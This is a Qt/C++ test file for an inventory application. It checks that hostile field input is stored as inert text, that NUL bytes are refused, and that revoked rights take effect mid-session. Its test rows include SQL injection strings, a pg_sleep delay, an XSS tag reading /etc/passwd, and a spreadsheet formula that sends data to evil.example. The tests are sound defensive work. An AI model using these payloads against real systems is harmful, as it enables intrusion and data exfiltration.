// SPDX-License-Identifier: GPL-3.0-or-later
#include "actions/inventoryactions.h"
#include "actions/salesactions.h"
#include "data/csv.h"
#include "databaseawait.h"
#include "db/sql.h"
#include "fatalloghandler.h"
#include "inventorysession.h"
#include "queries/inventoryqueries.h"
#include "queries/searchqueries.h"
#include "temporarypostgres.h"

#include <QSignalSpy>
#include <QTest>

using Kind = Outcome::Kind;

/** What people and other systems put into fields, and rights that change while one is connected. */
class HostileTest : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void init();
    void cleanup() { m_database.reset(); }

    void textsAreTexts_data();
    void textsAreTexts();
    void nulIsRefused();
    void membershipWithdrawnWhileConnected();
    void rightsWithdrawnWhileConnected();

private:
    [[nodiscard]] static QString ask(Database& database, const char* statement)
    {
        const auto result = await::read<QString>(
            database, [statement](pqxx::transaction_base& tx) { return sql::text(sql::exec(tx, statement)[0][0]); });
        return result ? result.value() : result.error().technical;
    }
    [[nodiscard]] static Action note(const QString& text, const QString& sku = {})
    {
        SalesSubmission submission;
        submission.id = QUuid::createUuid();
        submission.notes = text;
        if (!sku.isEmpty())
            submission.flags.append({ sku, sku, sku, true });
        return salesactions::make(submission, text);
    }

    std::unique_ptr<TestDatabase> m_database;
};

void HostileTest::init()
{
    FatalLogHandler::arm();
    m_database = std::make_unique<TestDatabase>();
    inventoryfixture::fill(*m_database, 4);
}

void HostileTest::textsAreTexts_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("SQL") << QStringLiteral("'); DROP TABLE sales_pulse_actions; --");
    QTest::newRow("SQL in dollars") << QStringLiteral("$$; DELETE FROM vendors; $1 $2 :x ?");
    QTest::newRow("backslashes") << QStringLiteral("\\'; SELECT pg_sleep(600); E'\\\\");
    QTest::newRow("markup") << QStringLiteral("<img src='file:///etc/passwd'><b>x</b><script>alert(1)</script>&amp;");
    QTest::newRow("formula") << QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1)");
    QTest::newRow("JSON") << QStringLiteral("\"},{\"flag\":false,\"x\":\"\\u0000");
    QTest::newRow("bidi") << QStringLiteral("abc\u202Egnp.exe\u202C \u2066x\u2069 \u200F");
    QTest::newRow("patterns") << QStringLiteral("%_\\%' OR 1=1");
    QTest::newRow("other planes") << QString::fromUcs4(U"\U0001F4A9\U000E0001\U0010FFFD e\u0301");
    QTest::newRow("very long") << QString(9990, QChar(u'\u00e9'));
}

/** Stored, read, found and told as they are: nothing in them is executed. */
void HostileTest::textsAreTexts()
{
    QFETCH(QString, text);
    InventorySession session(*m_database);
    const auto outcome = await::outcome(session.actions, note(text, text));
    QVERIFY2(outcome && outcome->isCommitted(), qPrintable(outcome->error.technical));
    QCOMPARE(ask(session.database, "SELECT notes FROM sales_pulse_actions WHERE action_type = 'note_added'"), text);
    QCOMPARE(ask(session.database,
                 "SELECT metadata ->> 'sku' FROM sales_pulse_actions WHERE action_type ="
                 " 'sku_flagged'"),
             text);
    const auto queue = await::read<QVector<StockItem>>(session.database, [](pqxx::transaction_base& tx) {
        return inventoryqueries::readQueue(tx, ReorderScope::NeedsDecision).items;
    });
    QVERIFY(queue && !queue.value().isEmpty());
    const auto rejected = await::outcome(session.actions, inventoryactions::reject(queue.value().first(), text, text));
    QVERIFY2(rejected && rejected->isCommitted(), qPrintable(rejected->error.technical));
    QCOMPARE(ask(session.database, "SELECT notes FROM inventory_actions"), text);
    const auto found = await::read<QVector<SearchHit>>(
        session.database, [text](pqxx::transaction_base& tx) { return searchqueries::find(tx, text, 5); });
    QVERIFY2(bool(found), qPrintable(found ? QString() : found.error().technical));
    QVERIFY(found.value().isEmpty()); // a pattern is no wildcard either
    QCOMPARE(m_database->execute(QStringLiteral("SELECT count(*) FROM vendors")), QStringLiteral("2"));
    const QString cell = csv::cell(text);
    QVERIFY(!QStringLiteral("=+-@\t\r").contains(cell.startsWith(u'"') ? cell.at(1) : cell.at(0)));
}

void HostileTest::nulIsRefused()
{
    InventorySession session(*m_database);
    const Action action = note(QStringLiteral("before") + QChar(u'\0') + QStringLiteral("after"));
    const auto outcome = await::outcome(session.actions, action);
    QVERIFY(outcome);
    QCOMPARE(outcome->kind, Kind::Invalid);
    QVERIFY(!outcome->error.message.isEmpty());
    QCOMPARE(m_database->execute(QStringLiteral("SELECT count(*) FROM sales_pulse_actions")), QStringLiteral("0"));
    QVERIFY(await::outcome(session.actions, note(QStringLiteral("fine")))->isCommitted());
}

/** From the next transaction on she sees nothing and writes nothing; what belongs to others she never saw. */
void HostileTest::membershipWithdrawnWhileConnected()
{
    m_database->execute(QStringLiteral("INSERT INTO vendors (name, project) VALUES ('Theirs', 'other')"));
    InventorySession session(*m_database);
    const char* count = "SELECT count(*)::text FROM vendors";
    QCOMPARE(ask(session.database, count), QStringLiteral("2"));
    m_database->execute(QStringLiteral("DELETE FROM app.project_members WHERE login = 'op_occ'"));
    QCOMPARE(ask(session.database, count), QStringLiteral("0"));
    const auto outcome = await::outcome(session.actions, note(QStringLiteral("x")));
    QVERIFY(outcome && !outcome->isDone());
    QCOMPARE(m_database->execute(QStringLiteral("SELECT count(*) FROM sales_pulse_actions")), QStringLiteral("0"));
    m_database->execute(QStringLiteral("INSERT INTO app.project_members (login, project) VALUES ('op_occ', 'occ')"));
    QCOMPARE(ask(session.database, count), QStringLiteral("2"));
    QVERIFY(await::outcome(session.actions, note(QStringLiteral("x")))->isCommitted());
}

void HostileTest::rightsWithdrawnWhileConnected()
{
    InventorySession session(*m_database);
    QTRY_COMPARE_WITH_TIMEOUT(session.inventory.freshness().state, LoadState::Ready, await::kBound);
    const int before = session.inventory.summary().variants();
    m_database->execute(QStringLiteral("REVOKE SELECT ON inventory_status_counts FROM authenticated"));
    session.inventory.refresh();
    QTRY_COMPARE_WITH_TIMEOUT(session.inventory.freshness().state, LoadState::Stale, await::kBound);
    QCOMPARE(session.inventory.freshness().error.kind, DbError::Kind::Denied);
    QCOMPARE(session.inventory.summary().variants(), before);
    m_database->execute(QStringLiteral("REVOKE INSERT ON sales_pulse_actions FROM authenticated"));
    QCOMPARE(await::outcome(session.actions, note(QStringLiteral("x")))->kind, Kind::Denied);
    QCOMPARE(session.database.state(), Database::State::Connected);
}

QTEST_GUILESS_MAIN(HostileTest)
#include "tst_hostile.moc"
